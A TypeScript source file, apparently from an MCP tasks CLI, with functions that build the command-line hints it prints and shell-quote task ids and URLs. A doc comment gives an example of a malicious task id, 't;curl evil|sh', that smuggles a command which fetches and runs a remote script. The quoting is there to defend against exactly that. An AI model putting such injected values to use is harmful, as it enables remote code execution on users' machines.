import { basename, resolve } from 'node:path';

import { shellWord } from '../client/shell-word.js';

/**
 * The command a user types to run this CLI again, for the hints it prints (`follow it with: … watch <id>`): `mcp-tasks`
 * when it was started under that name (installed or `npm link`ed), else `node <absolute path to main.js>` — the form
 * the README's tour uses, which works without anything on `PATH` and from any directory (an answer hint is often
 * copied into another shell), quoted for a POSIX shell when the path needs it.
 * @param argv1 - the script path Node was started with (`process.argv[1]`)
 */
export function cliCommand(argv1: string | undefined = process.argv[1]): string {
  if (argv1 === undefined || !/^main(\.js)?$/.test(basename(argv1))) return 'mcp-tasks';
  return `node ${shellWord(resolve(argv1.endsWith('.js') ? argv1 : `${argv1}.js`))}`;
}

/**
 * A requestor command for one task as the user types it again: `<cli> <command> <taskId>`, with `--url` and
 * `--protocol` when given (`target`) — without them the command finds the server the journal, `MCP_TASKS_URL` or the
 * default names. The task id is the server's: it is quoted when it holds a character the shell would act on
 * (`t;curl evil|sh`), since an agent may run the command as printed.
 */
export function taskCommand(command: string, taskId: string, target: { url?: string; protocol?: string } = {}): string {
  const url = target.url === undefined ? '' : ` --url ${shellWord(target.url)}`;
  const protocol = target.protocol === undefined ? '' : ` --protocol ${target.protocol}`;
  return `${cliCommand()} ${command} ${shellWord(taskId)}${url}${protocol}`;
}
